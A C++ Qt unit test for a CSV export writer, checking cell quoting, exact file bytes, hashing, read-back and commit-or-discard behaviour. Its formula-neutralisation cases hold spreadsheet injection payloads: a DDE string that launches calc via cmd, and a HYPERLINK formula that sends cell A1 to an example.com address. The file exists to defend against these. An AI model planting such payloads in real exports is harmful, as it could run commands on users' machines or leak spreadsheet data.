// SPDX-License-Identifier: GPL-3.0-or-later
#include "engine/exchange/csv_writer.h"

#include "tests/unit/csv_files.h"
#include "tests/unit/printing.h"

#include <limits>
#include <memory>
#include <QDir>

using namespace songda;
using namespace songda::exchange;
using namespace songda::testing;

namespace {

std::string cellOf(const std::string &text) {
    std::string line;
    appendCell(line, text);
    return line;
}

/// What a spreadsheet reads in the one cell of this line.
std::string seen(const std::string &cell) {
    if (cell.empty() || cell.front() != '"')
        return cell;
    std::string text;
    for (std::size_t i = 1; i + 1 < cell.size(); ++i) {
        text += cell[i];
        i += cell[i] == '"';
    }
    return text;
}

std::string sha256Of(const std::string &bytes) {
    return QCryptographicHash::hash(QByteArray::fromStdString(bytes), QCryptographicHash::Sha256)
        .toHex()
        .toStdString();
}

} // namespace

class ExchangeCsvWriterTest final : public QObject {
    Q_OBJECT

private Q_SLOTS:
    void cellsAreQuotedWhereTheyMustBe_data();
    void cellsAreQuotedWhereTheyMustBe();
    void formulasAreMadeHarmless_data();
    void formulasAreMadeHarmless();
    void numbersAndPlainWordsStay_data();
    void numbersAndPlainWordsStay();
    void fileHasTheseBytes();
    void everyIntegerIsWritten();
    void hashIsThatOfTheFile();
    void whatIsWrittenIsReadBack();
    void nothingIsLeftWithoutCommit();
    void anOlderFileStaysUntilCommit();
    void unwritablePlacesAreRefused();
};

void ExchangeCsvWriterTest::cellsAreQuotedWhereTheyMustBe_data() {
    QTest::addColumn<std::string>("text");
    QTest::addColumn<std::string>("cell");
    const auto row = [](const char *name, const char *text, const char *cell) {
        QTest::newRow(name) << std::string(text) << std::string(cell);
    };
    row("empty", "", "");
    row("plain", "abc", "abc");
    row("Chinese", "订单", "订单");
    row("blank inside", "a b", "a b");
    row("comma", "a,b", "\"a,b\"");
    row("quote", "a\"b", "\"a\"\"b\"");
    row("only a quote", "\"", "\"\"\"\"");
    row("LF", "a\nb", "\"a\nb\"");
    row("CR", "a\rb", "\"a\rb\"");
    row("CRLF", "a\r\nb", "\"a\r\nb\"");
    row("semicolon, for other countries' Excel", "a;b", "\"a;b\"");
    row("tab", "a\tb", "\"a\tb\"");
    row("blank in front", " a", "\" a\"");
    row("blank behind", "a ", "\"a \"");
}

void ExchangeCsvWriterTest::cellsAreQuotedWhereTheyMustBe() {
    QFETCH(std::string, text);
    QTEST(cellOf(text), "cell");
}

void ExchangeCsvWriterTest::formulasAreMadeHarmless_data() {
    QTest::addColumn<std::string>("text");
    const auto row = [](const std::string &text) {
        QTest::newRow(QString::fromStdString(text).toHtmlEscaped().toUtf8().simplified().constData()) << text;
    };
    row("=1+1");
    row("=cmd|' /C calc'!A0");
    row("=HYPERLINK(\"https://example.com?\"&A1,\"click\")");
    row("=");
    row("+1+1");
    row("+86 13800138000");
    row("-1+1");
    row("-A1");
    row("-");
    row("--1");
    row("-cmd|' /C calc'!A0");
    row("-1,5");
    row("-1 ");
    row("-inf");
    row("-infinity");
    row("-nan");
    row("-nan(A1)");
    row("@SUM(1,1)");
    row("@");
    row(" =1+1");
    row("   @x");
    row(" -1+1");
    row("＝1+1");
    row("＋1");
    row("－1");
    row("＠SUM(1)");
    row(" ＝1");
    QTest::newRow("tab") << std::string("\t=1+1");
    QTest::newRow("tab alone") << std::string("\tx");
    QTest::newRow("CR") << std::string("\r=1+1");
    QTest::newRow("LF") << std::string("\n=1+1");
    QTest::newRow("NUL") << std::string("\0=1+1", 5);
    QTest::newRow("blank, tab") << std::string(" \t=1+1");
    QTest::newRow("quote inside") << std::string("=\"a\"");
    QTest::newRow("breaking out of the cell") << std::string("=1\",\"=2");
}

void ExchangeCsvWriterTest::formulasAreMadeHarmless() {
    QFETCH(std::string, text);
    const std::string cell = cellOf(text);
    QVERIFY2(cell.size() > 2 && cell.front() == '"' && cell.back() == '"', cell.c_str());
    QCOMPARE(seen(cell), "'" + text); // nothing is lost, and the sign is no longer in front
}

void ExchangeCsvWriterTest::numbersAndPlainWordsStay_data() {
    QTest::addColumn<std::string>("text");
    for (const char *text :
        {"0", "1", "-1", "-1.5", "-0.001", "-1700827132819554305", "1e5", "a=b", "a+b", "1-2", "a@b.cn",
            "43004", "2026-01-31T08:00:00.000+08:00", "oABC-DEF_1", "'quoted'", "订单=1", "（-1）", "—"})
        QTest::newRow(text) << std::string(text);
}

void ExchangeCsvWriterTest::numbersAndPlainWordsStay() {
    QFETCH(std::string, text);
    QCOMPARE(cellOf(text), text);
}

void ExchangeCsvWriterTest::fileHasTheseBytes() {
    const Files files;
    auto writer = CsvWriter::create(files.path("out.csv"));
    QVERIFY(writer.has_value());
    CsvWriter &csv = **writer;
    csv.cell("message_id");
    csv.cell("备注");
    csv.cell("");
    QVERIFY(csv.endRow().has_value());
    csv.number(-1);
    csv.empty();
    csv.cell("a,\"b\"");
    QVERIFY(csv.endRow().has_value());
    csv.empty();
    csv.cell("=1+1");
    csv.number(43004);
    QVERIFY(csv.endRow().has_value());
    QVERIFY(csv.commit().has_value());
    QCOMPARE(Files::bytesOf(files.path("out.csv")),
        std::string("\xEF\xBB\xBFmessage_id,备注,\r\n-1,,\"a,\"\"b\"\"\"\r\n,\"'=1+1\",43004\r\n"));
}

void ExchangeCsvWriterTest::everyIntegerIsWritten() {
    const Files files;
    auto writer = CsvWriter::create(files.path("out.csv"));
    QVERIFY(writer.has_value());
    for (const std::int64_t value : {std::numeric_limits<std::int64_t>::min(), std::int64_t{0},
             std::int64_t{1700827132819554305}, std::numeric_limits<std::int64_t>::max()})
        (*writer)->number(value);
    QVERIFY((*writer)->endRow().has_value());
    QVERIFY((*writer)->commit().has_value());
    QCOMPARE(Files::bytesOf(files.path("out.csv")),
        std::string("\xEF\xBB\xBF-9223372036854775808,0,1700827132819554305,9223372036854775807\r\n"));
}

void ExchangeCsvWriterTest::hashIsThatOfTheFile() {
    for (const int rows : {0, 1, 100, 50000}) {
        const Files files;
        auto writer = CsvWriter::create(files.path("out.csv"));
        QVERIFY(writer.has_value());
        for (int i = 0; i < rows; ++i) {
            (*writer)->number(i);
            (*writer)->cell("订单，已发货");
            QVERIFY((*writer)->endRow().has_value());
        }
        QVERIFY((*writer)->commit().has_value());
        const std::string bytes = Files::bytesOf(files.path("out.csv"));
        QVERIFY(bytes.starts_with("\xEF\xBB\xBF"));
        QCOMPARE((*writer)->sha256(), sha256Of(bytes));
    }
}

void ExchangeCsvWriterTest::whatIsWrittenIsReadBack() {
    const std::vector<std::vector<std::string>> rows{
        {"id", "words", "more"}, {"-1", "a,b\"c\"\r\nd", " x "}, {"", "茶😀", "a;b\tc|d"}, {"'", "\"", "\n"}, {"=1+1", "'=1+1", "''@x"}};
    const Files files;
    auto writer = CsvWriter::create(files.path("out.csv"));
    QVERIFY(writer.has_value());
    for (const auto &row : rows) {
        for (const std::string &field : row)
            (*writer)->cell(field);
        QVERIFY((*writer)->endRow().has_value());
    }
    QVERIFY((*writer)->commit().has_value());
    const ReadFile read = readCsv(files.path("out.csv"));
    QCOMPARE(read.rows.size(), rows.size());
    for (std::size_t i = 0; i < rows.size(); ++i)
        QVERIFY(read.rows[i].fields == rows[i]);
}

void ExchangeCsvWriterTest::nothingIsLeftWithoutCommit() {
    const Files files;
    {
        auto writer = CsvWriter::create(files.path("out.csv"));
        QVERIFY(writer.has_value());
        for (int i = 0; i < 100000; ++i) {
            (*writer)->cell("a row that is on the disk by now");
            QVERIFY((*writer)->endRow().has_value());
        }
    }
    QCOMPARE(QDir(files.directory()).entryList(QDir::AllEntries | QDir::Hidden | QDir::NoDotAndDotDot),
        QStringList{});
}

void ExchangeCsvWriterTest::anOlderFileStaysUntilCommit() {
    Files files;
    const std::string path = files.write("the old report");
    {
        auto writer = CsvWriter::create(path);
        QVERIFY(writer.has_value());
        (*writer)->cell("new");
        QVERIFY((*writer)->endRow().has_value());
        QCOMPARE(Files::bytesOf(path), std::string("the old report"));
    }
    QCOMPARE(Files::bytesOf(path), std::string("the old report"));
    auto writer = CsvWriter::create(path);
    QVERIFY(writer.has_value());
    (*writer)->cell("new");
    QVERIFY((*writer)->endRow().has_value());
    QVERIFY((*writer)->commit().has_value());
    QCOMPARE(Files::bytesOf(path), std::string("\xEF\xBB\xBFnew\r\n"));
}

void ExchangeCsvWriterTest::unwritablePlacesAreRefused() {
    const Files files;
    const std::string path = files.path("no/such/folder/out.csv");
    const auto writer = CsvWriter::create(path);
    QVERIFY(!writer.has_value());
    QCOMPARE(named(writer.error().code), std::string("storage"));
    QVERIFY2(writer.error().detail.find(path) != std::string::npos, writer.error().detail.c_str());
}

QTEST_GUILESS_MAIN(ExchangeCsvWriterTest)
#include "exchange_csv_writer_test.moc"
